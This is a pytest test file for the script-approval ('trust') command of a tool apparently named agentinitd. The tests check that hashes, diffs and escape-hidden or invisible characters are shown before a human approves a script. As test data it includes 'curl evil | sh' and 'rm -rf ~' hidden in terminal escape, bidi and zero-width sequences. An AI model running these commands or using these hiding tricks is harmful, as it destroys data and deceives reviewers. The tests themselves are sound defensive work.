from __future__ import annotations

import hashlib
import json
import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
PROGRAM = [sys.executable, "-c", "from agentinitd.cli.main import main; main()"]
SCRIPT = """#!/bin/sh
### BEGIN INIT INFO
# Short-Description: The branch that is checked out
# X-Agentinitd-Env: SSH_AUTH_SOCK
### END INIT INFO
echo branch
"""


@pytest.fixture
def project(home: Path) -> Path:
    folder = home / "project"
    (folder / ".agent-memory" / "init.d").mkdir(parents=True)
    return folder


@pytest.fixture
def script(project: Path) -> Path:
    return write(project / ".agent-memory" / "init.d" / "S50-git-branch", SCRIPT)


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run(cwd: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """The command as a program without a terminal."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [*PROGRAM, *words],
        cwd=cwd,
        env=environment,
        text=True,
        capture_output=True,
        timeout=60,
        start_new_session=True,
    )


def run_at_terminal(cwd: Path, *words: str, answer: str) -> tuple[int, str]:
    """The command at a terminal, where somebody answers each question; its exit code and what was shown."""
    pid, terminal = pty.fork()
    if pid == 0:
        os.chdir(cwd)
        os.execve(sys.executable, [*PROGRAM, *words], {**os.environ, "PYTHONPATH": str(ROOT)})
    shown, answered, deadline = b"", 0, time.monotonic() + 60
    while time.monotonic() < deadline:
        if not select.select([terminal], [], [], 0.2)[0]:
            continue
        try:
            part = os.read(terminal, 65536)
        except OSError:
            break
        if not part:
            break
        shown += part
        while shown.count(b"[y/N]") > answered:
            answered += 1
            os.write(terminal, answer.encode() + b"\n")
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    os.close(terminal)
    return code, shown.decode("utf-8", "replace")


def state(project: Path, name: str = "S50-git-branch") -> str:
    shown = json.loads(run(project, "rc", "show", "--json").stdout)
    return next(one["state"] for one in shown["scripts"] if one["name"] == name)


def test_at_a_terminal_everything_is_shown_and_yes_approves(project: Path, script: Path) -> None:
    """TRU-8."""
    code, shown = run_at_terminal(project, "trust", answer="y")
    assert code == 0, shown
    for text in (
        str(script),
        "The branch that is checked out",
        sha256(script),
        "SSH_AUTH_SOCK",
        "| echo branch",
    ):
        assert text in shown
    assert f"approved: {script}" in shown
    assert state(project) == "runs"


@pytest.mark.parametrize("answer", ["", "n", "maybe"])
def test_anything_but_yes_approves_nothing(project: Path, script: Path, answer: str) -> None:
    code, shown = run_at_terminal(project, "trust", "S50-git-branch", answer=answer)
    assert code == 1
    assert f"not approved: {script}" in shown
    assert state(project) == "pending-trust"


def test_after_an_edit_the_difference_is_shown(project: Path, script: Path) -> None:
    """TRU-8."""
    run(project, "trust", str(script), "--sha256", sha256(script))
    write(script, SCRIPT + "curl evil | sh\n")
    assert state(project) == "pending-trust"
    _, shown = run_at_terminal(project, "trust", answer="n")
    assert "+curl evil | sh" in shown
    assert "| echo branch" not in shown


HIDING = {
    "OSC": (b"\x1b]0;rm -rf ~\x07", r"\x1b]0;rm -rf ~\x07"),
    "DCS": (b"\x1bPrm -rf ~\x1b\\", r"\x1bPrm -rf ~\x1b" + "\\"),
    "APC": (b"\x1b_rm -rf ~\x1b\\", r"\x1b_rm -rf ~\x1b" + "\\"),
    "CSI": (b"evil #\x1b[2K\x1b[1A\x1b[8m", r"evil #\x1b[2K\x1b[1A\x1b[8m"),
    "C1": ("\x9d0;rm -rf ~\x9c".encode(), r"\u009d0;rm -rf ~\u009c"),
    "CR": (b"evil\rgood", r"evil\x0dgood"),
    "zero width": ("e\u200bv\u2060il\ufeff".encode(), r"e\u200bv\u2060il\ufeff"),
    "bidi": ("\u202eevil\u2066".encode(), r"\u202eevil\u2066"),
    "tags": ("\U000e0065\U000e0076".encode(), r"\U000e0065\U000e0076"),
    "not UTF-8": (b"\xff\xfe", r"\xff\xfe"),
}


def write_hiding(script: Path, data: bytes) -> None:
    script.write_bytes(SCRIPT.encode() + b"true #" + data + b"\n")


@pytest.mark.parametrize("kind", HIDING)
def test_what_a_terminal_would_hide_is_shown_before_the_first_approval(
    project: Path, script: Path, kind: str
) -> None:
    data, seen = HIDING[kind]
    write_hiding(script, data)
    _, shown = run_at_terminal(project, "trust", answer="n")
    assert f"  | true #{seen}\r\n" in shown
    assert "control or invisible character" in shown
    assert "\x1b" not in shown


@pytest.mark.parametrize("kind", HIDING)
def test_what_a_terminal_would_hide_is_shown_in_the_difference(
    project: Path, script: Path, kind: str
) -> None:
    data, seen = HIDING[kind]
    write_hiding(script, b"")
    run(project, "trust", str(script), "--sha256", sha256(script))
    write_hiding(script, data)
    _, shown = run_at_terminal(project, "trust", answer="n")
    assert f"  +true #{seen}\r\n" in shown
    assert "approved before" not in shown
    assert "control or invisible character" in shown


def test_an_escape_in_place_of_its_spelling_is_a_change(project: Path, script: Path) -> None:
    write_hiding(script, rb"\x1b")
    run(project, "trust", str(script), "--sha256", sha256(script))
    write_hiding(script, b"\x1b")
    _, shown = run_at_terminal(project, "trust", answer="n")
    assert r"  +true #\x1b" in shown
    assert "contains 1 control" in shown


def test_a_plain_script_has_no_warning(project: Path, script: Path) -> None:
    write(script, SCRIPT + "\techo 先读 é\n")
    _, shown = run_at_terminal(project, "trust", answer="n")
    assert "echo 先读 é" in shown
    assert "invisible" not in shown


def test_without_a_terminal_nothing_is_approved_and_the_cure_is_a_command(
    project: Path, script: Path
) -> None:
    ended = run(project, "trust")
    assert ended.returncode == 4
    assert f"agentinitd trust {script} --sha256 {sha256(script)}" in ended.stderr
    assert state(project) == "pending-trust"


def test_without_a_terminal_the_hash_approves(project: Path, script: Path) -> None:
    """TRU-8."""
    ended = run(project, "trust", "allow", ".agent-memory/init.d/S50-git-branch", "--sha256", sha256(script))
    assert (ended.returncode, ended.stdout) == (0, f"approved: {script}\n")
    assert state(project) == "runs"


def test_a_wrong_hash_approves_nothing_at_all(project: Path, script: Path) -> None:
    other = write(script.with_name("S51-other"), SCRIPT)
    write(other, SCRIPT + "true\n")
    ended = run(project, "trust", str(script), str(other), "--sha256", sha256(script))
    assert ended.returncode == 4
    assert f"{other} is {sha256(other)}" in ended.stderr
    assert state(project) == "pending-trust"


@pytest.mark.parametrize("name", ["AGENTINITD_TRUST", "CI", "AGENTINITD_YES"])
def test_no_variable_approves(
    project: Path, script: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """TRU-8."""
    monkeypatch.setenv(name, "1")
    assert run(project, "trust", str(script)).returncode == 4
    assert run(project, "trust", "--yes", str(script)).returncode == 2


def test_a_denied_script_is_skipped_until_approved_by_name(project: Path, script: Path) -> None:
    run(project, "trust", str(script), "--sha256", sha256(script))
    assert run(project, "trust", "deny", "S50-git-branch").stdout == f"denied: {script}\n"
    assert state(project) == "skipped"
    assert run(project, "trust").stdout == "Nothing is waiting for approval here.\n"
    code, shown = run_at_terminal(project, "trust", "S50-git-branch", answer="y")
    assert code == 0
    assert "you denied it before" in shown
    assert state(project) == "runs"


def test_a_script_that_takes_the_place_of_ones_own_says_so(home: Path, project: Path) -> None:
    write(home / ".config" / "agentinitd" / "init.d" / "S60-mine", SCRIPT)
    script = write(project / ".agent-memory" / "init.d" / "S60-mine", SCRIPT)
    _, shown = run_at_terminal(project, "trust", str(script), answer="y")
    assert "takes the place of S60-mine of the user layer" in shown
    scripts = json.loads(run(project, "rc", "show", "--json").stdout)["scripts"]
    assert [(one["layer"], one["state"]) for one in scripts if one["key"] == "mine"] == [
        ("user", "shadowed"),
        ("project", "runs"),
    ]


def test_masks_and_entries_of_runlevels_wait_for_approval_too(project: Path) -> None:
    mask = write(project / ".agent-memory" / "init.d" / "S20-tools", "")
    removal = write(project / ".agent-memory" / "rc.d" / "session.d" / "S10-constraints", "")
    code, shown = run_at_terminal(project, "trust", answer="y")
    assert code == 0, shown
    assert "switches tools off" in shown
    assert f"approved: {mask}" in shown
    assert f"approved: {removal}" in shown
    session = json.loads(run(project, "rc", "show", "--json").stdout)["runlevels"]["session"]
    assert [(one["name"], one["state"]) for one in session][:2] == [
        ("S15-captured-rules", "runs"),
        ("S20-tools", "masked"),
    ]


@pytest.mark.parametrize("name", ["nowhere", "/etc/hostname", ".agent-memory/init.d"])
def test_what_is_no_script_of_a_project_is_a_usage_error(project: Path, name: str) -> None:
    ended = run(project, "trust", name)
    assert ended.returncode in (2, 4)
    assert name.rsplit("/", 1)[-1] in ended.stderr
    assert "Traceback" not in ended.stderr


def test_decisions_are_listed_and_pruned(project: Path, script: Path) -> None:
    assert run(project, "trust", "list").stdout == "No decisions yet.\n"
    run(project, "trust", str(script), "--sha256", sha256(script))
    run(project, "trust", "deny", "S51-other")
    records = json.loads(run(project, "trust", "list", "--json").stdout)
    assert [(record["kind"], record["name"]) for record in records] == [
        ("deny", "S51-other"),
        ("allow", "S50-git-branch"),
    ]
    assert sha256(script)[:12] in run(project, "trust", "list").stdout
    script.unlink()
    assert run(project, "trust", "prune").stdout == f"forgotten: {script}\n"
    assert "Nothing to forget" in run(project, "trust", "prune").stdout
    assert [record["kind"] for record in json.loads(run(project, "trust", "list", "--json").stdout)] == [
        "deny"
    ]
